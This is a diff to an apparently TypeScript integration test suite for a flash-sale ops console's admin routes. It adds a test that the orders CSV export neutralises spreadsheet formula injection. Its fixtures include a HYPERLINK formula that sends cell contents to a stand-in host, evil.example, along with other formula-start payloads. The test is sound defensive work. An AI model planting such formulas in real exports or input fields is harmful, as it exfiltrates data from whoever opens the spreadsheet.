@@ -2,9 +2,10 @@
  * The ops console's read routes against a real Postgres and Redis: a sale's orders in cursor
  * pages (every row exactly once, newest first, orders arriving mid-walk not mixed in), filtered
  * by status, searched by user id or order id; the CSV of them (every row, equal to Postgres,
- * over several batches, quoted where needed); each order with the price and currency it was
- * accepted at, not its sale's now; bad parameters as field errors; and every sale's stats in one
- * request, where a sale whose read fails is reported on its own.
+ * over several batches, quoted where needed, no cell a spreadsheet reads as a formula); each
+ * order with the price and currency it was accepted at, not its sale's now; bad parameters as
+ * field errors; and every sale's stats in one request, where a sale whose read fails is
+ * reported on its own.
  */
 import { createRedis, type Redis } from "@flash-sale/node-common";
 import { PrivateRedis } from "./support/private-redis";
@@ -247,4 +248,22 @@ test("every sale's stats come in one request; a sale whose read fails is reporte
   expect(byId[OTHER].stats).toMatchObject({ unitsLeft: 10_000, ordersPersisted: 1 });
   // The same numbers as the sale's own read.
   expect(byId[SALE].stats).toEqual((await get(`/admin/api/sales/${SALE}`)).json.stats);
+});
+
+test("the CSV lets no cell start a formula (OWASP: =, +, -, @, tab, carriage return get a leading quote), quoted as RFC 4180 says", async () => {
+  const sale = "orders-api-formulas";
+  await cp.createSale({ id: sale, price: SALE_PRICE, stock: 100, perUserLimit: 1 });
+  const users = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+x", "-2+3", "@SUM(A1:A9)", "\tcmd", "\r=1+1", "plain=1", "a,=b"];
+  await insertOrders(sale, users.map((user, i) => ({ epoch: 1, n: i + 1, user, units: 1, quantity: 1, status: "confirmed", at: new Date(Date.UTC(2030, 0, 1, 12, 0, i)) })));
+
+  const res = await get(`/admin/api/sales/${sale}/orders.csv`);
+  expect(res.status).toBe(200);
+  const cells = parseCsv(res.text).slice(1).map((r) => r[1]);
+  expect(cells).toEqual([`'=HYPERLINK("http://evil.example/?"&A1,"Click")`, "'+x", "'-2+3", "'@SUM(A1:A9)", "'\tcmd", "'\r=1+1", "plain=1", "a,=b"]);
+  // As written: the quote inside the field, RFC 4180 quoting around it where needed.
+  expect(res.text).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",`);
+  expect(res.text).toContain(",'+x,");
+  expect(res.text).toContain(`,"'\r=1+1",`);
+  // The JSON list is data, not a spreadsheet: the ids as they are.
+  expect((await get(`/admin/api/sales/${sale}/orders?limit=500`)).json.orders.map((o: OrderRow) => o.userId).reverse()).toEqual(users);
 });
